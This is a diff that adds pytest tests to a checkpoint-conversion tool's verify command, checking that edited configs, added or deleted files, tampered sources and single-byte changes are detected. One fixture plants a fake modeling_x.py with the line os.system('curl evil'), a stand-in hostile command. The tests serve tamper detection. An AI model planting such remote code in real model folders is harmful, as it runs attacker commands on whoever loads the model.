@@ -175,3 +175,150 @@ def test_levels_stop_where_asked(damaged):
     assert result.exit_code != 0
     with pytest.raises(MoeconvError, match="verify level 'everything' is not one of structure, lossless, numerics"):
         verify(out, level="everything")
+
+
+# ------------------------------------------------------------------------------ what verify cannot be fooled by
+
+
+def _edit_config(folder: Path, edit) -> None:
+    config = json.loads((folder / "config.json").read_text())
+    edit(config)
+    (folder / "config.json").write_text(json.dumps(config, indent=2))
+
+
+@pytest.mark.parametrize("field, value", [
+    ("num_experts_per_tok", 1), ("hidden_act", "gelu"), ("rms_norm_eps", 1e-3), ("rope_theta", 10.0),
+    ("num_hidden_layers", 1), ("auto_map", {"AutoModelForCausalLM": "modeling_x.X"}),
+])
+def test_an_edited_config_fails_naming_the_field(damaged, field, value):
+    """An edit of config.json beyond the quantization block: the digest check names the file; with the
+    manifest rewritten to match, the field-by-field comparison with the source's config names the field."""
+    _, out = damaged
+    _edit_config(out, lambda config: config.update({field: value}))
+    report = verify(out, level="structure")
+    assert "config.json: digest or size differs from moeconv.json" in report.failures()
+    reseal(out, out / "config.json")
+    report = verify(out, level="structure")
+    assert report.failures() == [f"config.json: field {field} differs from what the source's config.json gives"]
+    assert not report.proven
+
+
+def test_added_remote_code_and_a_rewritten_or_deleted_side_file_fail(damaged):
+    source, out = damaged
+    (out / "modeling_x.py").write_text("import os; os.system('curl evil')")
+    (out / "generation_config.json").write_text('{"temperature": 9.0}')
+    (out / "tokenizer_config.json").unlink()
+    failures = verify(out, level="structure").failures()
+    assert "modeling_x.py: in the output folder but not written by the conversion (not in moeconv.json)" in failures
+    assert "generation_config.json: digest or size differs from moeconv.json" in failures
+    assert "tokenizer_config.json: listed in moeconv.json but missing" in failures
+    # An attacker who also rewrites the manifest: the copied files are compared with the source's.
+    reseal(out, out / "generation_config.json", edit=lambda m: (
+        m["copied_files"].pop("tokenizer_config.json"),
+        m["copied_files"].update({"modeling_x.py": {"bytes": 0, "sha256_64mib_blocks": ""}})))
+    reseal(out, out / "modeling_x.py")
+    failures = verify(out, level="structure").failures()
+    assert failures == [
+        f"generation_config.json: differs from the source's {(source / 'generation_config.json').resolve()}",
+        "tokenizer_config.json: a file of the source that the output lacks (not in moeconv.json)",
+        "modeling_x.py: copied into the output, but the source has no such file to copy"], failures
+
+
+def test_a_tampered_source_copy_fails(converted, tmp_path):
+    """verify without --source reads the source the manifest names: a copy of it changed in step with
+    the output (same headers, a weight byte flipped in both, the output's manifest rewritten) fails on
+    the source shard digests recorded while the conversion read the source."""
+    import shutil
+
+    source, out = converted
+    copy_source, copy_out = tmp_path / "src", tmp_path / "out"
+    shutil.copytree(source, copy_source, symlinks=True)
+    shutil.copytree(out, copy_out)
+    name = "model.layers.0.self_attn.q_proj.qweight"
+    changed = []
+    for folder in (copy_source, copy_out):
+        entry = open_checkpoint(folder).tensors[name]
+        with open(entry.file, "r+b") as handle:
+            handle.seek(entry.begin)
+            byte = handle.read(1)[0]
+            handle.seek(entry.begin)
+            handle.write(bytes([byte ^ 0xFF]))
+        changed.append(entry)
+    reseal(copy_out, changed[1].file, edit=lambda m: m["source"].update(path=str(copy_source)))
+    report = verify(copy_out, level="lossless")
+    assert report.passthrough_problems == []  # the output equals its (tampered) source
+    assert report.source_problems == [f"{changed[0].file}: the source shard's data differs from what the "
+                                      f"conversion read (its digest in moeconv.json)"]
+    assert not report.ok and "lossless" not in report.proven
+
+
+def test_the_report_says_what_was_proven_at_each_level(converted):
+    _, out = converted
+    structure = verify(out, level="structure")
+    assert list(structure.proven) == ["structure"] and structure.to_json()["level"] == "structure"
+    lossless = verify(out, level="lossless").to_json()
+    assert list(lossless["proven"]) == ["structure", "lossless"] and lossless["source_files_checked"] > 1
+    assert any("every source shard hashes to the digest recorded" in claim for claim in lossless["proven"]["lossless"])
+    full = verify(out, numerics_layers=1)
+    assert list(full.proven) == ["structure", "lossless", "numerics"]
+
+
+def test_a_damaged_manifest_is_a_failed_verification(damaged, capsys):
+    """A manifest that is not JSON, or whose content no longer matches its own digest: exit 1, naming it."""
+    from helpers import run_main
+
+    _, out = damaged
+    text = (out / "moeconv.json").read_text()
+    (out / "moeconv.json").write_text(text.replace('"tool": "moeconv"', '"tool": "moeconw"'))
+    report = verify(out, level="structure")
+    assert report.failures() == ["moeconv.json: its content differs from its own recorded digest "
+                                 "(changed after the conversion)"]
+    (out / "moeconv.json").write_text(text[:-10])
+    code, out_text, err = run_main(capsys, "verify", out, "--level", "structure")
+    assert code == 1 and "moeconv.json: not valid JSON" in err, err
+
+
+def _immaterial(before: bytes, after: bytes) -> bool:
+    """A change that provably means nothing: the file is JSON and reads the same (a whitespace byte)."""
+    try:
+        return json.loads(before) == json.loads(after)
+    except ValueError:
+        return False
+
+
+@pytest.mark.timeout(300)
+def test_any_single_byte_change_in_the_output_fails_verify(converted, tmp_path_factory, capsys):
+    """Property: one byte of any file of an output folder XORed with a random mask makes `verify
+    --source` exit 1 with a report naming the file, unless the change is immaterial JSON whitespace."""
+    import os
+
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    from helpers import run_main
+
+    source, out = converted
+    names = sorted(path.name for path in out.iterdir())
+
+    @settings(max_examples=int(os.environ.get("MOECONV_BYTE_CHANGES", "12")), deadline=None,
+              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+    @given(name=st.sampled_from(names), where=st.floats(0, 1, exclude_max=True), mask=st.integers(1, 255))
+    def check(name, where, mask):
+        folder = tmp_path_factory.mktemp("changed") / "out"
+        folder.mkdir()
+        for path in out.iterdir():
+            (folder / path.name).write_bytes(path.read_bytes())
+        data = bytearray((out / name).read_bytes())
+        position = int(where * len(data))
+        data[position] ^= mask
+        (folder / name).write_bytes(data)
+        code, stdout, err = run_main(capsys, "verify", folder, "--source", source, "--level", "lossless",
+                                     "--json", "-q")
+        if code == 0:
+            assert _immaterial((out / name).read_bytes(), bytes(data)), (name, position, mask)
+            return
+        assert code == 1, (name, position, mask, err)
+        report = json.loads(stdout)
+        assert any(name in problem for problem in report["structure_problems"]), (name, report["structure_problems"])
+
+    check()
